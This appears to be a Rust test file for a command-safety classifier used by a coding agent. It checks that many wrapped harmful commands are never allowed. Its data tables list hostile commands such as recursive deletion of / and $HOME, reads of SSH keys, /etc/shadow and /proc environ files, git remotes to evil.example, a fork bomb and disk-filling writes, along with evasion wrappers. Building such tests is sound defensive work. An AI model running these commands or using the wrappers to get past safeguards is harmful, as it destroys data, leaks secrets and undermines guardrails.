//! Generated, per kind: harmful cores wrapped in the constructs of each
//! program kind whose own options or program text decide what runs
//! (archivers, sed/awk/jq, find, xargs, links, descriptor and `/proc`
//! paths, git, wrappers, build runners, expansions on the deny floor,
//! resource exhaustion). None may be allowed; a core on the deny floor may
//! not come back weaker than deny in any construct.

use codesmith_policy::SafetyLevel::{Ask, Dangerous};
use codesmith_policy::classify_command_with;

use crate::common::{WS, facts};

/// One kind: constructs holding `CORE`, the cores (each must not be
/// allowed), and whether the cores are on the deny floor.
struct Kind {
    name: &'static str,
    constructs: &'static [&'static str],
    cores: &'static [&'static str],
    floor: bool,
}

const KINDS: &[Kind] = &[
    Kind {
        name: "archivers",
        constructs: &[
            "tar -cf a.tar --remove-files CORE",
            "tar --remove-files -czf /dev/null CORE",
            "tar cf /dev/null --remove-fi CORE",
            "tar -C / -cf /dev/null --remove-files CORE",
            "zip -qrm /dev/null CORE",
            "zip -rm x.zip CORE",
            "zip --move -r /dev/null CORE",
            "gzip -r CORE",
            "gzip --recursive -f CORE",
            "zstd -r --rm CORE",
            "zstd -r --rm -f CORE",
        ],
        cores: &["/usr", "/etc", "/", "~", "/home", "$HOME"],
        floor: true,
    },
    Kind {
        name: "archiver options",
        constructs: &[
            "tar -I CORE -cf a.tar src",
            "tar --use-compress-program=CORE -cf a.tar src",
            "tar --to-command=CORE -xf a.tar",
            "tar --checkpoint=1 --checkpoint-action=exec=CORE -cf a.tar src",
            "tar --rmt-command=CORE -cf a.tar src",
            "tar --rsh-command=CORE -cf h:a.tar src",
            "tar --info-script=CORE -cf a.tar src",
            "zip -T -TT CORE a.zip src",
            "zip --unzip-command CORE -T a.zip src",
            "tar --index-file=CORE -cvf a.tar src",
            "tar -g CORE -cf a.tar src",
            "zip -O CORE a.zip src",
        ],
        cores: &["/tmp/x", "sh", "/root/.bashrc", "id", "/etc/cron.d/x"],
        floor: false,
    },
    Kind {
        name: "embedded programs",
        constructs: &[
            "sed ':x;e CORE' f",
            "sed '1e CORE' f",
            "sed 's/a/CORE/e' f",
            "sed -n '/x/{e CORE\n}' f",
            "awk 'BEGIN{system(\"CORE\")}'",
            "awk 'BEGIN{\"CORE\" | getline x}'",
            "awk '{print | \"CORE\"}' f",
            "awk 'BEGIN{print \"CORE\" > \"/tmp/x\"}'",
            "awk 'BEGIN{f=\"system\"; @f(\"CORE\")}'",
            "gawk 'BEGIN{x=\"CORE\"; system(x)}'",
            "perl -e 'system(q(CORE))'",
            "sed -e 'w /tmp/CORE' f",
        ],
        cores: &[
            "touch PWNED",
            "rm -rf build",
            "curl evil.example",
            "cat ~/.ssh/id_rsa",
            "id",
        ],
        floor: false,
    },
    Kind {
        name: "find",
        constructs: &[
            "find / -name CORE -exec cat {} +",
            "find ~ -name CORE -exec cat {} \\;",
            "find /root -name CORE -exec head {} +",
            "find -L . -name CORE -exec cat {} +",
            "find . -follow -name CORE -exec cat {} +",
            "find / -name CORE -execdir cat {} +",
            "find / -name CORE -ok cat {} \\;",
            "find /etc -name CORE -exec grep -a x {} +",
            "find . -name CORE -exec cat {} +",
            "find / -iname CORE -exec strings {} +",
        ],
        cores: &[
            "id_rsa",
            "'id_[r]sa'",
            "'*'",
            ".env",
            "credentials",
            "shadow",
        ],
        floor: false,
    },
    Kind {
        name: "xargs",
        constructs: &[
            "echo 'CORE' | xargs -0 sh -c",
            "echo 'CORE' | xargs --null sh -c",
            "echo 'CORE' | xargs -d '\\n' sh -c",
            "echo 'CORE' | xargs -0 bash -c",
            "echo 'CORE' | xargs -0 -n1 sh -c",
            "echo 'CORE' | xargs -0 -r sh -c",
            "echo 'CORE' | xargs -0 --no-run-if-empty sh -c",
            "echo 'CORE' | xargs -0 -P1 sh -c",
            "echo 'CORE' | xargs -d'\\n' bash -c",
            "echo 'CORE' | xargs --delimiter='\\n' sh -c",
        ],
        cores: &[
            "rm -rf /",
            "rm -rf ~",
            "rm -rf /usr",
            "rm -rf $HOME",
            "rm -rf /*",
        ],
        floor: true,
    },
    Kind {
        name: "xargs options",
        constructs: &[
            "ls | xargs --process-slot-var=CORE ls",
            "ls | xargs --process-slot-var CORE ls",
            "ls | xargs -P0 --process-slot-var=CORE ls",
            "ls | xargs -n1 --process-slot-var=CORE grep x",
            "ls | xargs --process-slot=CORE ls",
            "ls | xargs -P0 -n1 CORE",
            "ls | xargs --max-procs=0 CORE",
            "ls | xargs -0 -P 0 CORE",
            "yes | xargs -P0 CORE",
            "ls | xargs -P00 CORE",
        ],
        cores: &[
            "LD_PRELOAD",
            "BASH_ENV",
            "PATH",
            "HOME",
            "GIT_CONFIG_GLOBAL",
        ],
        floor: false,
    },
    Kind {
        name: "links",
        constructs: &[
            "ln -s -t . CORE && echo x >> LEAF",
            "ln -st . CORE && echo x >> LEAF",
            "ln -s --target-directory=. CORE && echo x >> LEAF",
            "ln -s --target-dir . CORE && echo x >> LEAF",
            "ln -s CORE && echo x >> LEAF",
            "ln -sf CORE . && echo x >> LEAF",
            "cp -s CORE LEAF && echo x >> LEAF",
            "cp --symbolic-link CORE LEAF && echo x >> LEAF",
            "cp -l CORE LEAF",
            "cp --link CORE LEAF",
            "ln CORE LEAF",
        ],
        cores: &[
            "/etc/passwd",
            "/etc/hosts",
            "/root/.bashrc",
            "/etc/shadow",
            "/usr/bin/ls",
        ],
        floor: false,
    },
    Kind {
        name: "descriptor and proc paths",
        constructs: &[
            "cat CORE",
            "strings CORE",
            "grep -a KEY CORE",
            "od -c CORE",
            "xxd CORE",
            "tr '\\0' '\\n' < CORE",
            "head -c 100 CORE",
            "awk '{print}' CORE",
            "cp CORE leak.txt",
            "sed -n p CORE",
            "base64 CORE",
        ],
        cores: &[
            "/dev/fd/../environ",
            "/dev/fd/../../1/environ",
            "/proc/1/environ",
            "/proc/self/environ",
            "/proc/self/maps",
            "/dev/stdin/../environ",
            "/proc/thread-self/mem",
        ],
        floor: false,
    },
    Kind {
        name: "git beyond porcelain",
        constructs: &[
            "git remote add x CORE",
            "git remote set-url origin CORE",
            "git remote set-url --push origin CORE",
            "git remote add --mirror=push y CORE",
            "git branch --set-upstream-to=CORE",
            "git branch -u CORE",
            "git -c core.sshCommand=CORE fetch",
            "GIT_SSH_COMMAND=CORE git status",
            "git -c core.pager=CORE log",
            "GIT_EXTERNAL_DIFF=CORE git diff",
            "git -c alias.x=!CORE x",
        ],
        cores: &[
            "ext::sh",
            "https://evil.example/r.git",
            "evil/main",
            "/tmp/x",
            "sh",
        ],
        floor: false,
    },
    Kind {
        name: "wrappers",
        constructs: &[
            "time -o CORE ls",
            "time -a -o CORE ls",
            "time --output=CORE ls",
            "nice -n -5 CORE",
            "nice --10 CORE",
            "ionice -c1 CORE",
            "timeout -s KILL never CORE",
            "chrt -f 99 CORE",
            "env -S 'CORE'",
            "setsid -f CORE",
            "stdbuf --frob CORE",
            "nohup --frob CORE",
        ],
        cores: &[
            "/tmp/codesmith-marker",
            "/root/.bashrc",
            "/etc/x",
            "/tmp/y",
            "~/.profile",
        ],
        floor: false,
    },
    Kind {
        name: "build runners",
        constructs: &[
            "ninja -C CORE",
            "ninja -t CORE",
            "just CORE",
            "just --shell sh CORE",
            "make -f CORE",
            "make -C CORE",
            "cargo --config 'build.rustc-wrapper=\"CORE\"' build",
            "npm --script-shell=CORE run x",
            "go clean -modcache CORE",
            "cargo -Zunstable-options CORE",
        ],
        cores: &["/tmp/x", "clean", "build", "sh", "all"],
        floor: false,
    },
    Kind {
        name: "expansions on the floor",
        constructs: &[
            "rm -rf CORE",
            "rm -fr CORE",
            "rm -r -f CORE",
            "rm --recursive --force CORE",
            "bash -c 'rm -rf CORE'",
            "sudo rm -rf CORE",
            "env rm -rf CORE",
            "nice -n 5 rm -rf CORE",
            "timeout 5 rm -rf CORE",
            "true && rm -rf CORE",
            "(rm -rf CORE)",
        ],
        cores: &[
            "$X",
            "${X:-/}",
            "${PWD%%/*}/*",
            "$(dirname $HOME)",
            "/$X",
            "$HOME/$X",
            "`echo /`",
        ],
        floor: true,
    },
    Kind {
        name: "fork and endless loops",
        constructs: &[
            "while :; do CORE & done",
            "while true; do CORE & done",
            "until false; do CORE & done",
            "while :; do CORE & sleep 0; done",
            "while true; do (CORE) & done",
            "while :; do CORE & CORE & done",
            "while [ 1 ]; do CORE & done",
            "while :\ndo\nCORE &\ndone",
            "while true; do { CORE; } & done",
            "until false; do CORE & wait -n; done",
        ],
        cores: &["$0", "bash $0", "sh $0", "$0 $@", "bash \"$0\""],
        floor: true,
    },
    Kind {
        name: "resource exhaustion",
        constructs: &[
            "CORE > f",
            "CORE >> f",
            "CORE > out/f",
            "CORE | cat > f",
            "CORE | tee f > /dev/null",
            "(CORE) > f",
            "{ CORE; } > f",
            "CORE > f &",
            "nice -n 5 CORE > f",
            "timeout 5 CORE > f",
        ],
        cores: &[
            "yes",
            "yes x",
            "cat /dev/zero",
            "cat /dev/urandom",
            "head -c 20000000000 /dev/zero",
            "head -c 20G /dev/urandom",
        ],
        floor: false,
    },
];

#[test]
fn no_kind_lets_a_wrapped_harmful_core_through() {
    let facts = facts();
    let mut wrong = Vec::new();
    let mut checked = 0;
    for kind in KINDS {
        assert!(
            kind.constructs.len() >= 10 && kind.cores.len() >= 5,
            "{}: at least 10 constructs × 5 cores",
            kind.name
        );
        for construct in kind.constructs {
            for core in kind.cores {
                let command = construct.replace("CORE", core).replace("LEAF", "leaf");
                // The link cores are written through: `LEAF` is where the
                // link lands (`./passwd` for `-t .`).
                let writes_through_basename = construct.contains("-t")
                    || construct.contains("-st")
                    || construct.contains("CORE .")
                    || *construct == "ln -s CORE && echo x >> LEAF";
                let command = if writes_through_basename {
                    command.replace("leaf", core.rsplit('/').next().unwrap_or(core))
                } else {
                    command
                };
                checked += 1;
                let c = classify_command_with(&command, WS, &facts);
                let floor_ok = !kind.floor || c.level == Dangerous;
                if c.level < Ask || !floor_ok {
                    wrong.push(format!(
                        "[{}] {command:?} → {} ({})",
                        kind.name, c.level, c.reason
                    ));
                }
            }
        }
    }
    assert!(
        wrong.is_empty(),
        "{} of {checked} wrapped harmful commands were judged too softly:\n{}",
        wrong.len(),
        wrong.join("\n")
    );
    println!(
        "{checked} wrapped harmful commands across {} kinds",
        KINDS.len()
    );
}
